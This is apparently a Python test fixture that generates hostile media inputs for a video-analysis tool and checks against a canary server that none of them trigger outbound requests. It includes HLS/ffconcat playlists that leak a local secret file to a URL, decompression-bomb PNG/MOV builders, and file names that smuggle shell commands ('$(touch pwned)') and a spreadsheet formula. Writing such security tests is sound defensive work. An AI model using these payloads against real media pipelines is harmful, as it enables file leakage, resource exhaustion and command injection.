"""Files that must not hurt: no videos, broken videos, scripts that point elsewhere, bombs, odd names and nodes.

with CanaryServer() as canary:
    for case in hostile_files(tmp_path, canary.url):
        ...                      # analyse case.path; case.expect says what may happen
    assert canary.hits == 0
"""

from __future__ import annotations

import os
import random
import shutil
import socket
import struct
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from enum import Enum
from pathlib import Path

from tests.media_samples import SampleVideo
from tests.servers.pictures import png


class Expect(Enum):
    """What an analysis of the file may end in."""

    ERROR = "a clean error"
    ERROR_OR_PART = "scenes of the readable part, or a clean error"
    WORKS = "an ordinary result"


@dataclass(frozen=True, slots=True)
class HostileFile:
    """One input; ``bait`` must not be opened on its behalf."""

    path: Path
    what: str
    expect: Expect
    bait: Path | None = None


def hostile_files(directory: Path, canary_url: str, good: SampleVideo | None = None) -> list[HostileFile]:
    """Write every case into ``directory``; those cut from a video need ``good``, an .mp4 or .mov."""
    cases = [*no_videos(directory), *pointing_elsewhere(directory, canary_url, good), *bombs(directory)]
    cases += odd_nodes(directory)
    if good is not None:
        cases += broken_videos(directory, good)
        cases += hostile_names(directory, good)
    return cases


def no_videos(directory: Path) -> list[HostileFile]:
    """Files named like a video that are none."""
    noise = random.Random(7)
    packets = b"".join(b"\x47" + noise.randbytes(187) for _ in range(500))
    contents = (
        ("zero.mp4", b"", "0 bytes"),
        ("one_byte.mp4", b"\0", "1 byte"),
        ("text.mp4", b"These are only words.\n" * 200, "text, renamed"),
        (
            "html.mp4",
            b"<!doctype html><title>404</title><h1>Not Found</h1>\n",
            "an error page saved as a video",
        ),
        ("random.mp4", noise.randbytes(100_000), "random bytes"),
        ("random.ts", packets, "random MPEG-TS packets"),
        (
            "header_only.mp4",
            struct.pack(">I", 24) + b"ftypisom\0\0\2\0isomiso2",
            "a file type box and nothing else",
        ),
    )
    return [_write(directory / name, data, what, Expect.ERROR) for name, data, what in contents]


def broken_videos(directory: Path, good: SampleVideo) -> list[HostileFile]:
    """Cut and damaged copies of a good video."""
    data = good.path.read_bytes()
    noise = random.Random(11)
    flipped = bytearray(data)
    for _ in range(60):
        flipped[noise.randrange(2048, len(data))] ^= 1 << noise.randrange(8)
    return [
        _write(directory / "truncated.mp4", data[: len(data) // 2], "first half only", Expect.ERROR),
        _write(directory / "no_moov.mp4", data.replace(b"moov", b"xxxx"), "no moov box", Expect.ERROR),
        _write(directory / "bitflips.mp4", bytes(flipped), "60 damaged bits", Expect.ERROR_OR_PART),
    ]


def pointing_elsewhere(
    directory: Path, canary_url: str, good: SampleVideo | None = None
) -> list[HostileFile]:
    """Playlists, scripts and references that would open another file or an address."""
    bait = directory / "secret_video.mp4"
    if good is None:
        bait.write_bytes(b"not for other files\n")
    else:
        shutil.copyfile(good.path, bait)
    secret = directory / "secret.txt"
    secret.write_text("canary words of a private file\n", encoding="utf-8")
    port = canary_url.rstrip("/").rsplit(":", 1)[1]
    hls = "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:4.0,\n{}\n#EXT-X-ENDLIST\n"
    concat = "ffconcat version 1.0\nfile {}\n"
    dash = (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT4S"><Period><AdaptationSet mimeType="video/mp4">'
        '<Representation id="1" bandwidth="1"><BaseURL>{}dash.mp4</BaseURL></Representation>'
        "</AdaptationSet></Period></MPD>"
    )
    sdp = (
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
        f"m=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
    )
    leak = f"concat:{canary_url}leak?|subfile,,start,0,end,20,,:{secret}"
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<image xlink:href="{canary_url}x.png"/></svg>'
    )
    texts = (
        ("hls_local.mp4", hls.format(f"file://{bait}"), "HLS playlist naming a local file, as .mp4", bait),
        ("hls_local.m3u8", hls.format(bait.name), "HLS playlist naming a neighbour", bait),
        ("hls_http.mp4", hls.format(canary_url + "a.ts"), "HLS playlist naming an address, as .mp4", None),
        ("hls_http.m3u8", hls.format(canary_url + "b.ts"), "HLS playlist naming an address", None),
        ("hls_leak.m3u8", hls.format(leak), "HLS and concat: leak of a local file into an address", secret),
        ("ffconcat_local.mp4", concat.format(bait.name), "ffconcat script naming a neighbour, as .mp4", bait),
        ("ffconcat_absolute.txt", concat.format(bait), "ffconcat script naming an absolute path", bait),
        ("ffconcat_http.mp4", concat.format(canary_url + "c.mp4"), "ffconcat script naming an address", None),
        ("dash_http.mpd", dash.format(canary_url), "DASH manifest naming an address", None),
        ("dash_http.mp4", dash.format(canary_url), "DASH manifest naming an address, as .mp4", None),
        ("sdp_rtp.mp4", sdp, "SDP: would open a socket and wait", None),
        ("svg.svg", svg, "SVG with an external picture", None),
    )
    cases = [
        _write(directory / name, text.encode(), what, Expect.ERROR, near) for name, text, what, near in texts
    ]
    picture = directory / "secret_picture.bin"
    picture.write_bytes(png())
    size = picture.stat().st_size
    reference = mov_file(b"", codec=b"png ", width=64, height=64, sample_size=size, reference=picture.name)
    path = directory / "external_reference.mov"
    cases.append(_write(path, reference, "QuickTime alias to another file", Expect.ERROR, picture))
    return cases


def bombs(directory: Path) -> list[HostileFile]:
    """Small files that declare pictures of hundreds of megabytes."""
    picture = zeros_png(16_000, 16_000)
    huge = zeros_png(60_000, 60_000, rows=1)
    return [
        _write(
            directory / "bomb_16000.mov",
            mov_file(picture, codec=b"png ", width=16_000, height=16_000),
            "a MOV with one 16000x16000 PNG: 768 MB of pixels",
            Expect.ERROR,
        ),
        _write(
            directory / "bomb_lying.mov",
            mov_file(picture, codec=b"png ", width=320, height=180),
            "the same, its header declaring 320x180",
            Expect.ERROR,
        ),
        _write(directory / "bomb_png.mp4", huge, "a PNG declaring 60000x60000, renamed", Expect.ERROR),
        _write(
            directory / "huge_header.mp4",
            mov_file(b"\0" * 64, codec=b"avc1", width=65_535, height=65_535),
            "a container declaring 65535x65535",
            Expect.ERROR,
        ),
    ]


def odd_nodes(directory: Path) -> list[HostileFile]:
    """A folder, links and (POSIX) a pipe, a socket and a device, all named like videos."""
    (directory / "directory.mp4").mkdir()
    cases = [HostileFile(directory / "directory.mp4", "a folder", Expect.ERROR)]
    makers: tuple[tuple[str, Callable[[Path], None], str], ...] = (
        ("loop_a.mp4", lambda path: path.symlink_to("loop_b.mp4"), "half of a symlink loop"),
        ("loop_b.mp4", lambda path: path.symlink_to("loop_a.mp4"), "the other half"),
        ("dangling.mp4", lambda path: path.symlink_to("nowhere.mp4"), "a dangling symlink"),
        ("dev_zero.mp4", lambda path: path.symlink_to("/dev/zero"), "a symlink to an endless device"),
        ("fifo.mp4", lambda path: os.mkfifo(path), "a pipe without a writer"),
        ("socket.mp4", _make_socket, "a socket"),
        ("unreadable.mp4", _make_unreadable, "a file this user may not read"),
    )
    for name, make, what in makers:
        try:
            make(directory / name)
        except (OSError, AttributeError):
            continue  # this system or this user has no such thing
        cases.append(HostileFile(directory / name, what, Expect.ERROR))
    return cases


def _make_socket(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as node:
        node.bind(str(path))


def _make_unreadable(path: Path) -> None:
    if os.geteuid() == 0:
        raise PermissionError("root can read everything")
    path.write_bytes(b"x")
    path.chmod(0)


NAMES: tuple[str, ...] = (
    "naïve 🎬 'quote' \"dq\" $(touch pwned) `id` ;&|{}",
    "new\nline{}",
    "-dash-first{}",
    "http:..127.0.0.1:8977..x{}",
    "pattern_%03d{}",
    "x" * 240 + "{}",
    "=cmd|' -C calc'!A0{}",
    "concat:a{}",
    "<img src=x>{}",
    "\u202egpj{}",
    "12:30 取材{}",
    "two  spaces and a dot.{}",
    "tab\there{}",
)
"""Names with a place for the suffix."""


def hostile_names(directory: Path, good: SampleVideo, names: Iterable[str] = NAMES) -> list[HostileFile]:
    """Copies of a good video under every name this file system takes, one of them invalid UTF-8."""
    suffix = good.path.suffix
    folder = directory / "names"
    folder.mkdir(exist_ok=True)
    cases = []
    every = [name.format(suffix) if "{}" in name else name + suffix for name in names]
    for name in [*every, os.fsdecode(b"bad\xff\xfeutf8" + suffix.encode())]:
        path = folder / name
        try:
            shutil.copyfile(good.path, path)
        except (OSError, ValueError):
            continue  # not a name on this file system
        cases.append(HostileFile(path, f"a valid video named {name!r}", Expect.WORKS))
    return cases


def zeros_png(width: int, height: int, rows: int | None = None) -> bytes:
    """A valid black RGB PNG of any size, made without its pixels ever being in memory.

    ``rows`` fewer than ``height`` leaves the rest of the data out.
    """

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    count = (height if rows is None else rows) * (1 + 3 * width)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", _zlib_zeros(count))
        + chunk(b"IEND", b"")
    )


def _zlib_zeros(count: int) -> bytes:
    """A zlib stream of so many zero bytes: one flushed block, repeated."""
    size = 1 << 20
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = engine.compress(bytes(size)) + engine.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = last.compress(bytes(count % size)) + last.flush()
    check = ((count % 65521) << 16) | 1  # Adler-32 of zeros
    return b"\x78\xda" + block * (count // size) + tail + struct.pack(">I", check)


def mov_file(
    sample: bytes,
    *,
    codec: bytes,
    width: int,
    height: int,
    sample_size: int | None = None,
    reference: str | None = None,
) -> bytes:
    """A QuickTime file with one picture; with ``reference`` its data is said to lie in that neighbour."""

    def box(kind: bytes, *parts: bytes) -> bytes:
        body = b"".join(parts)
        return struct.pack(">I", 8 + len(body)) + kind + body

    def full(kind: bytes, *parts: bytes, flags: int = 0) -> bytes:
        return box(kind, struct.pack(">I", flags), *parts)

    matrix = struct.pack(">9i", 1 << 16, 0, 0, 0, 1 << 16, 0, 0, 0, 1 << 30)
    head = box(b"ftyp", b"qt  ", bytes(4), b"qt  ")
    data = box(b"mdat", sample)
    entry = struct.pack(">IHHHHIIIHHIIIH", 0, 0, 1, 0, 0, 0, 0, 0, width, height, 0x480000, 0x480000, 0, 1)
    entry = entry + bytes(32) + struct.pack(">HH", 24, 0xFFFF)
    there = full(b"alis", _alias_record(reference)) if reference else full(b"url ", flags=1)
    table = box(
        b"stbl",
        full(b"stsd", struct.pack(">I", 1), box(codec, entry)),
        full(b"stts", struct.pack(">III", 1, 1, 25)),
        full(b"stsc", struct.pack(">IIII", 1, 1, 1, 1)),
        full(b"stsz", struct.pack(">II", len(sample) if sample_size is None else sample_size, 1)),
        full(b"stco", struct.pack(">II", 1, 0 if reference else len(head) + 8)),
    )
    track = box(
        b"trak",
        full(
            b"tkhd",
            struct.pack(">IIIII", 0, 0, 1, 0, 25),
            bytes(16),
            matrix,
            struct.pack(">II", width << 16, height << 16),
            flags=7,
        ),
        box(
            b"mdia",
            full(b"mdhd", struct.pack(">IIIIHH", 0, 0, 25, 25, 0, 0)),
            full(b"hdlr", b"mhlr", b"vide", bytes(12), b"\0"),
            box(
                b"minf",
                full(b"vmhd", bytes(8), flags=1),
                box(b"dinf", full(b"dref", struct.pack(">I", 1), there)),
                table,
            ),
        ),
    )
    movie = full(
        b"mvhd",
        struct.pack(">IIII", 0, 0, 25, 25),
        struct.pack(">IH", 1 << 16, 1 << 8),
        bytes(10),
        matrix,
        bytes(24),
        struct.pack(">I", 2),
    )
    return head + data + box(b"moov", movie, track)


def _alias_record(name: str) -> bytes:
    """A Macintosh alias to a file in the same folder, as FFmpeg reads it with ``enable_drefs``."""
    volume, file = b"disk".ljust(27, b"\0"), name.encode()[:63].ljust(63, b"\0")
    path = f"disk:{name}".encode()
    path += b"\0" * (len(path) % 2)
    return (
        bytes(10)
        + bytes([4])
        + volume
        + bytes(12)
        + bytes([len(name)])
        + file
        + bytes(16)
        + struct.pack(">HH", 1, 1)  # one level up from here, one level down to there
        + bytes(16)
        + struct.pack(">HH", 2, len(path))
        + path
        + struct.pack(">HH", 0xFFFF, 0)
    )


def _write(path: Path, data: bytes, what: str, expect: Expect, bait: Path | None = None) -> HostileFile:
    path.write_bytes(data)
    return HostileFile(path, what, expect, bait)
